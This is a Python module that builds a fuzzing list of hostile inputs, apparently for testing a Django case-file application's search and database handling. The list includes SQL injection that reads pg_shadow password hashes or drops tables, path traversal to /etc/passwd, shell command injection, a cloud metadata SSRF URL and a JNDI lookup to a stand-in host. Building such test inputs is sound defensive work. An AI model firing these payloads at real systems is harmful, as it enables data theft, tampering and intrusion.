"""What do people type who want a database, a search or a file name to do more than it was asked?"""

from __future__ import annotations

from itertools import product
from typing import Final

# Ways out of a quoted string, a number, a pattern or a bracket.
WAYS_OUT: Final = ("", "'", '"', "')", '")', "'))", "`", "1", "1)", "%", "\\'", "\\", "' ", "%' ")
# What comes after it.
AFTER: Final = (
    "OR 1=1",
    "OR '1'='1",
    "OR 'a' LIKE 'a",
    "AND 1=0 UNION SELECT NULL,NULL,NULL",
    "UNION ALL SELECT name, sql, 1 FROM sqlite_master",
    "UNION SELECT usename, passwd, 1 FROM pg_shadow",
    "; DROP TABLE casefiles_casefile",
    "; UPDATE accounts_user SET is_active=1",
    "; SELECT pg_sleep(9)",
    "; ATTACH DATABASE '/tmp/x' AS x",
    "AND (SELECT COUNT(*) FROM casefiles_casefile) > 0",
    "AND randomblob(100000000) IS NOT NULL",
    "ORDER BY 99",
    "LIMIT 1 OFFSET 1",
    "GROUP BY reference HAVING 1=1",
    "IS NOT NULL",
)
ENDS: Final = ("--", "")

WHOLE: Final = (
    "' OR ''='", "admin'--", "1' OR '1' = '1' /*", "' OR 1 -- -", "\" OR \"\"=\"", "'='", "'LIKE'",
    "'=0--+", "OR 1=1", "' OR 'x'='x", "' AND id IS NULL; --", "'''''''''''''UNION SELECT '2",
    "%00", "\\x00", "%27%20OR%201=1", "%2527", "&#39; OR 1=1", "\u02bc OR 1=1", "\uff07 OR 1=1",
    "_", "%", "%%", "%_%", "[a-z]", ".*", "(?:a+)+$", "(a|a)*b", "^", "$", "\\", "\\\\", "*", "?",
    "(", ")", "[", "]", "{", "}", "{}", "[]", "{\"$ne\": null}", "{\"$gt\": \"\"}", "true", "false",
    "null", "None", "undefined", "NaN", "Infinity", "-Infinity", "1e309", "-1", "0", "00", "1.5",
    "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999",
    "0x7fffffff", "1_000", "1,000", "١٢٣", "²", "Ⅷ", "௧", "1 ", " 1", "+1", "--1",
    "2026-13-45", "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "1900-02-29", "now()",
    "2026-11-23T00:00:00Z", "23/11/2026", "31 February 2026", "99", "32", "13",
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "con", "nul.txt", "a\x7fb",
    "| id", "; id", "`id`", "$(id)", "&& id", "|| id", "\n id", "\r\nSet-Cookie: x=1",
    "\r\n\r\n<html>", "%0d%0aLocation: //elsewhere.example", "//elsewhere.example", "https:evil",
    "http://169.254.169.254/latest/meta-data/", "*)(uid=*))(|(uid=*", "*)(&",
    "' or count(/*)=1 or '",
    "<!--#exec cmd=\"id\"-->", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///\">]>",
    "${jndi:ldap://elsewhere.example}", "{{7*7}}", "%s%s%s%n", "%d", "{0}", "{x.__class__}",
    "%(x)s",
    "__class__", "__proto__", "constructor", "pk", "id__gt", "case_file__partnership", "password",
    "reference__startswith", "-reference", "?", "random()", "order_by", "sort=x;", "a" * 5000,
    "é" * 300, "\U0001f600" * 50, "\u202e" * 20, "\ufeff", "\u0000", "\u0001", "\ud7ff", "\uffff",
    "a\u0300" * 200, " " * 300, "\t\t\t", "\n" * 50, "\x1b[31m", "\x08\x08", "ﬃ", "ß", "İ",
    "SI-", "SI-%", "SI-_______", "SI-' OR 1=1--", "SI-*", "DR-%", "PP-%", "si-7", "SI-\u0000",
)  # fmt: skip

PAYLOADS: Final = tuple(
    dict.fromkeys(
        (*WHOLE, *(f"{out} {after}{end}" for out, after, end in product(WAYS_OUT, AFTER, ENDS)))
    )
)
